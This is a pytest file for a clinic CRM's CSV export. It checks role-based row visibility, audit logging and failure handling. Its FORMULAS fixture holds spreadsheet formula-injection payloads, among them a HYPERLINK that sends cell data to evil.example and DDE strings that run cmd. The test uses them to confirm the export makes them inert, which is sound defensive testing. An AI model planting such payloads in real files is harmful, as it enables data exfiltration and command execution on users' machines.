"""The app as a real HTTP server serves it (no test client): the list's CSV download for each
role, read the way a spreadsheet user's download is, and its audit trail."""
from __future__ import annotations

import csv
import http.client
import io

import pytest
from sqlalchemy import select

from crm.extensions import db
from crm.models import AuditEvent, Center, Inquiry
from crm.services import export as export_service
from tests.conftest import PASSWORD

#: Values a spreadsheet would run as formulas if they were written as they are.
FORMULAS = {"given_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
            "family_name": "+SUM(1+1)*cmd|' /C calc'!A0",
            "reason": "-2+3+cmd|' /C calc'!A0",
            "referring_physician_institution": "@SUM(1,2)"}
INERT_STARTS = ("=", "+", "-", "@", "\t", "\r")


def case_data(n: int, **overrides) -> dict:
    data = {"given_name": "Amal", "family_name": f"Exported{n}", "email": f"served{n}@example.com",
            "phone": "+966501234567", "country": "SA", "preferred_language": "ar",
            "date_of_birth": "1980-04-02", "sex": "female", "timezone": "Asia/Riyadh",
            "service": "second_opinion_in_person", "center": "cardiology", "reason": "Palpitations"}
    data.update(overrides)
    return data


@pytest.fixture(scope="module")
def export_cases(served_app):
    """Staff of each role and cases of every kind of visibility, committed; the CSV is read in
    batches of two rows, so that every download spans several of them."""
    from crm.services.intake import create_inquiry
    from crm.services.users import create_user
    app = served_app.app
    app.config["EXPORT_BATCH"] = 2
    with app.app_context():
        staff = {role: create_user(f"served-{role}@itinera.example", name=f"Served {role}", role=role,
                                   password=PASSWORD,
                                   center_keys=("cardiology",) if role == "coordinator" else ())
                 for role in ("coordinator", "manager", "admin")}
        other = create_user("served-other@itinera.example", name="Other coordinator", role="coordinator",
                            password=PASSWORD, center_keys=("neurology",))
        centers = {c.key: c for c in db.session.scalars(select(Center))}
        me = staff["coordinator"]
        layout = [("cardiology", other), ("cardiology", None), ("neurology", me), ("neurology", other),
                  (None, None), ("transplant", other), ("neurology", None), ("cardiology", me)]
        made = []
        for n, (center, coordinator) in enumerate(layout):
            inquiry = create_inquiry(case_data(n, center=center or "cardiology"), source="phone")
            inquiry.center = centers[center] if center else None
            inquiry.coordinator = coordinator
            made.append(inquiry)
        typed = {k: v for k, v in FORMULAS.items() if not k.startswith("referring")}
        typed["referring_institution"] = FORMULAS["referring_physician_institution"]
        formula = create_inquiry(case_data(99, center="cardiology", **typed), source="phone")
        hidden_formula = create_inquiry(case_data(98, center="transplant", **typed), source="phone")
        hidden_formula.center, hidden_formula.coordinator = centers["transplant"], other
        db.session.commit()
        everything = db.session.scalars(select(Inquiry)).all()
        mine = {i.id for i in everything if i.center_id in (None, centers["cardiology"].id)
                or i.coordinator_id == me.id}
        cases = {"emails": {role: user.email for role, user in staff.items()},
                 "ids": {role: user.id for role, user in staff.items()},
                 "expected": {"coordinator": mine, "manager": {i.id for i in everything}},
                 "formula": formula.id, "hidden": {hidden_formula.id, made[3].id, made[5].id}}
    assert cases["hidden"].isdisjoint(cases["expected"]["coordinator"])
    assert len(cases["expected"]["coordinator"]) >= 5  # its center, its own, the unrouted
    return cases


def exports_of(app, actor_id: int) -> list[tuple[str, str]]:
    with app.app_context():
        return [(e.action, e.detail) for e in db.session.scalars(
            select(AuditEvent).where(AuditEvent.actor_id == actor_id,
                                     AuditEvent.action.in_(("export", "export_failed")))
            .order_by(AuditEvent.id))]


def parsed(reply) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(reply.text, newline="")))
    assert rows, "no rows"
    assert list(rows[0]) == list(export_service.COLUMNS)
    return rows


@pytest.mark.parametrize("role", ["coordinator", "manager"])
def test_the_csv_download_over_http_holds_what_the_role_may_see_and_is_audited(
        served_app, export_cases, role):
    client = served_app.client()
    client.sign_in(export_cases["emails"][role], PASSWORD)
    before = exports_of(served_app.app, export_cases["ids"][role])
    reply = client.get("/inquiries/export.csv")
    assert reply.status == 200, reply.body[:300]
    assert reply.headers.get_content_type() == "text/csv"
    assert reply.headers["Content-Disposition"] == "attachment; filename=inquiries.csv"
    rows = parsed(reply)
    assert {int(r["id"]) for r in rows} == export_cases["expected"][role]
    assert len(rows) == len(export_cases["expected"][role])  # each once, across the batches
    if role == "coordinator":
        assert export_cases["hidden"].isdisjoint(int(r["id"]) for r in rows)
    assert exports_of(served_app.app, export_cases["ids"][role]) == before + [
        ("export", f"csv rows={len(rows)}")]


def test_formula_cells_in_the_download_are_inert(served_app, export_cases):
    client = served_app.client()
    client.sign_in(export_cases["emails"]["manager"], PASSWORD)
    rows = parsed(client.get("/inquiries/export.csv"))
    [row] = [r for r in rows if int(r["id"]) == export_cases["formula"]]
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(INERT_STARTS):
                assert column == "phone" and cell[1:].isdigit(), (column, cell)
    assert {r["phone"] for r in rows} == {"+966501234567"}  # E.164 stays readable


def test_an_admin_gets_no_download(served_app, export_cases):
    client = served_app.client()
    client.sign_in(export_cases["emails"]["admin"], PASSWORD)
    reply = client.get("/inquiries/export.csv")
    assert reply.status == 403
    assert b"Exported" not in reply.body and b"reference,id" not in reply.body
    assert exports_of(served_app.app, export_cases["ids"]["admin"]) == []


def test_a_download_that_breaks_off_is_audited_as_failed_not_as_done(served_app, export_cases,
                                                                     monkeypatch):
    client = served_app.client()
    client.sign_in(export_cases["emails"]["manager"], PASSWORD)
    before = exports_of(served_app.app, export_cases["ids"]["manager"])
    real_row_for, calls = export_service.row_for, []

    def row_for_then_fail(inquiry):
        calls.append(inquiry.id)
        if len(calls) > 3:  # in the second batch: two rows are on their way already
            raise RuntimeError("the database went away")
        return real_row_for(inquiry)

    monkeypatch.setattr(export_service, "row_for", row_for_then_fail)
    with pytest.raises(http.client.IncompleteRead):  # the client sees the download broke off
        client.get("/inquiries/export.csv")
    assert exports_of(served_app.app, export_cases["ids"]["manager"]) == before + [
        ("export_failed", "csv rows=2")]
